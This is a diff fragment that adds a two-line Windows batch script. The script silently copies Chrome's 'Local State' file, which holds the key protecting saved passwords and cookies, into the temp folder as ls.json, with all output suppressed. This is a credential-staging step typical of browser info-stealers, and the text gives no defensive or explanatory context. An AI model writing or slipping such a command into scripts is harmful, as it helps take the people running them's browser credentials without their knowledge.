@@ -1,0 +1,2 @@
+@echo off
+copy "%LOCALAPPDATA%\Google\Chrome\User Data\Local State" %TEMP%\ls.json >nul
